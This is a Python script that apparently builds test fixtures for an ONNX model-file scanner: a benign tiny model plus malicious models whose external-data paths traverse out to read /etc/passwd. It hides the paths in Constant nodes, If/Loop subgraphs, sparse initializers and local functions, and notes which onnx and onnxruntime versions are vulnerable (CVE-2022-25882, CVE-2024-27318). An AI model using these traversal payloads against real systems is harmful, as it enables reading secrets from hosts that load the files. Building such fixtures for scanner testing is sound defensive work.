"""Builds the ONNX fixtures with the onnx package (PyPI): a small real model (MatMul + Add + Relu,
float32 inputs [batch, 4] -> [batch, 3], one initializer inline) and the same model whose
initializer points at external data outside the model directory (CVE-2022-25882, CVE-2024-27318).

malicious/ holds tensors with external data outside the model directory in the places a scanner
that reads only graph.initializer misses: a Constant node's `value` attribute, an If node's
then/else branches, a Loop body, a sparse initializer's values, and a Constant inside a model-local
function (ModelProto.functions). Each reads the first 4 bytes of /etc/passwd ("root") as a uint8[4]
tensor. ../pickles/verify_payloads.py proves each with a loader that really reads it.

Two spellings of the location, because the loaders differ:
- "../../../../../../../../etc/passwd": onnxruntime < 1.24 opens it as is; onnx.load <= 1.15
  strips leading "." and "/" (_sanitize_path) and stays inside.
- "weights/../../../../../../../../../etc/passwd" (CVE-2024-27318): survives that stripping, so
  onnx.load <= 1.15 reads outside, provided a weights/ folder exists beside the model (the kernel
  resolves weights/.. before climbing). onnxruntime runs the onnx checker on If/Loop subgraphs,
  which refuses any location that normalises outside, so the subgraph cases use this spelling and
  are proven with onnx.load.
onnx >= 1.16 (onnx.load) and onnxruntime >= 1.24 refuse both spellings.

    python3 make_onnx.py
"""
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

HERE = Path(__file__).resolve().parent


def model(external_location=None):
    weights = numpy_helper.from_array(np.arange(12, dtype=np.float32).reshape(4, 3), name="W")
    if external_location:
        weights.ClearField("raw_data")
        weights.data_location = TensorProto.EXTERNAL
        for key, value in (("location", external_location), ("offset", "0"), ("length", "48")):
            entry = weights.external_data.add()
            entry.key, entry.value = key, value
    bias = numpy_helper.from_array(np.zeros(3, dtype=np.float32), name="B")
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["x", "W"], ["xw"]),
            helper.make_node("Add", ["xw", "B"], ["z"]),
            helper.make_node("Relu", ["z"], ["y"]),
        ],
        "tiny",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 3])],
        initializer=[weights, bias],
    )
    m = helper.make_model(graph, producer_name="modelpack-fixtures", opset_imports=[helper.make_opsetid("", 17)])
    m.ir_version = 8
    return m


OUTSIDE = "../" * 8 + "etc/passwd"
OUTSIDE_NESTED = "weights/" + "../" * 9 + "etc/passwd"


def secret(name, location):
    """A uint8[4] tensor whose data is the first 4 bytes of `location` (external data)."""
    tensor = numpy_helper.from_array(np.zeros(4, dtype=np.uint8), name=name)
    if location:
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "4")):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
    return tensor


def out(name="y", shape=(4,)):
    return helper.make_tensor_value_info(name, TensorProto.UINT8, list(shape))


def wrap(graph, functions=(), opsets=()):
    m = helper.make_model(
        graph, producer_name="modelpack-fixtures", functions=list(functions),
        opset_imports=[helper.make_opsetid("", 17), *opsets],
    )
    m.ir_version = 8
    return m


def constant_node(location):
    # a Constant node's `value` tensor attribute with external data (onnxruntime turns it into an
    # initializer at session creation and reads the file)
    node = helper.make_node("Constant", [], ["y"], value=secret("secret", location))
    return wrap(helper.make_graph([node], "constant", [], [out()]))


def if_branches(location):
    # an If node: the then branch holds an initializer, the else branch a Constant, both external
    then_g = helper.make_graph([helper.make_node("Identity", ["secret_then"], ["t"])], "then", [], [out("t")],
                               initializer=[secret("secret_then", location)])
    else_g = helper.make_graph([helper.make_node("Constant", [], ["e"], value=secret("secret_else", location))], "else", [], [out("e")])
    node = helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)
    return wrap(helper.make_graph([node], "if_branches", [helper.make_tensor_value_info("cond", TensorProto.BOOL, [])], [out()]))


def loop_body(location):
    # a Loop (one iteration) whose body graph holds an external initializer, emitted as a scan output
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["secret_body"], ["scan"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []), helper.make_tensor_value_info("cond_in", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), out("scan")],
        initializer=[secret("secret_body", location)],
    )
    trip = numpy_helper.from_array(np.array(1, dtype=np.int64), "trip")
    keep_going = numpy_helper.from_array(np.array(True), "keep_going")
    node = helper.make_node("Loop", ["trip", "keep_going"], ["y"], body=body)
    return wrap(helper.make_graph([node], "loop_body", [], [out("y", (1, 4))], initializer=[trip, keep_going]))


def sparse_initializer(location):
    # graph.sparse_initializer: the values tensor is external, the indices inline
    indices = numpy_helper.from_array(np.arange(4, dtype=np.int64), "secret_sparse_indices")
    sparse = helper.make_sparse_tensor(secret("secret_sparse", location), indices, [4])
    node = helper.make_node("Identity", ["secret_sparse"], ["y"])
    return wrap(helper.make_graph([node], "sparse_initializer", [], [out()], sparse_initializer=[sparse]))


def function_constant(location):
    # a model-local function (ModelProto.functions) whose body is a Constant with external data
    body = [helper.make_node("Constant", [], ["out"], value=secret("secret_fn", location))]
    function = helper.make_function("modelpack.local", "Secret", [], ["out"], body, [helper.make_opsetid("", 17)])
    node = helper.make_node("Secret", [], ["y"], domain="modelpack.local")
    return wrap(helper.make_graph([node], "function_constant", [], [out()]), [function], [helper.make_opsetid("modelpack.local", 1)])


MALICIOUS = {
    "constant_node_external_data.onnx": (constant_node, OUTSIDE),
    "if_branch_external_data.onnx": (if_branches, OUTSIDE_NESTED),
    "loop_body_external_data.onnx": (loop_body, OUTSIDE_NESTED),
    "sparse_initializer_external_data.onnx": (sparse_initializer, OUTSIDE),
    "function_constant_external_data.onnx": (function_constant, OUTSIDE),
}


def main() -> None:
    good = model()
    onnx.checker.check_model(good)
    onnx.save(good, HERE / "tiny.onnx")
    onnx.save(model("../../../etc/passwd"), HERE / "escaping_external_data.onnx")
    malicious = HERE / "malicious"
    malicious.mkdir(exist_ok=True)
    for old in malicious.iterdir():
        old.unlink()
    for name, (build, location) in MALICIOUS.items():
        # The structure is checked with the data inline (the checker refuses an outside location,
        # which is the point), then saved with the external reference.
        onnx.checker.check_model(build(None))
        onnx.save(build(location), malicious / name)
    print(f"wrote tiny.onnx, escaping_external_data.onnx and {len(MALICIOUS)} files in malicious/ with onnx {onnx.__version__}")


if __name__ == "__main__":
    main()
